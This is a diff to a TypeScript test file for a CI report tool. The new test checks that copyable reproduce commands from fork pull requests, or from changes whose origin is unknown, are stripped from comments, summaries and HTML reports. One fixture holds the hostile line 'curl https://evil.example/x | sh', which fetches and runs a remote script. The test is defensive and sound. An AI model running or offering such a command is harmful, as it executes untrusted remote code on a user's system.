@@ -1,6 +1,6 @@
 import type { CheckRuns, CommitStatus, Host, Posted } from "@stagegate/core";
 import { describe, expect, it } from "vitest";
-import { expected, put, report, RUN, run, write } from "../../test-support/comment-report.ts";
+import { expected, put, read, report, RUN, run, write } from "../../test-support/comment-report.ts";
 
 const ABLE = { able: true } as const;
 const NO = { able: false, reason: "not here" } as const;
@@ -157,6 +157,29 @@ describe("a run that posts for another one", () => {
     expect(ran.report.checks.map(({ title }) => title)).toEqual(["run-e2e"]);
     expect(ran.report.notes.join("\n")).toContain("was taken from run 77");
     expect(ran.comments[0]?.body).toMatch(/^<!-- stagegate v1 .* run=77 attempt=2 /);
+  });
+
+  it.each<[string, boolean | undefined, boolean]>([
+    ["a fork are left out", true, false],
+    ["nobody knows whom are left out", undefined, false],
+    ["the repository itself stay", false, true],
+  ])("has commands to copy: those of %s", async (_whose, fork, shown) => {
+    const reproduce = "curl https://evil.example/x | sh";
+    const accept = "verify-contracts:\n  accepted:\n    - fingerprint: f00";
+    const checks = [{ id: "e2e:a", title: "a", verdict: "fail" as const, reproduce }];
+    const counts = { ...report("run-e2e").counts, total: 1, fail: 1 };
+    const of = { run: { ...FORGE_RUN, ...source }, verdict: "fail" as const, counts };
+    await put(report("run-e2e", { ...of, checks }));
+    const accepted = checks.map((check) => ({ ...check, id: "contract:b", accept }));
+    await put(report("verify-contracts", { ...of, checks: accepted }));
+    const change = fork === undefined ? {} : { change: { fork, draft: false, bot: false } };
+    const ran = await run({}, { host: { info: { ...info, ...change } } });
+    const texts = [ran.comments[0]?.body, ran.summary, await read("report.html")];
+    for (const text of texts) {
+      expect(text?.includes("evil.example")).toBe(shown);
+      expect(text?.includes("f00")).toBe(shown);
+    }
+    expect(ran.report.notes.join("\n").includes("Commands to copy are left out")).toBe(!shown);
   });
 
   it("is never history, whatever the branch of the fork is called", async () => {
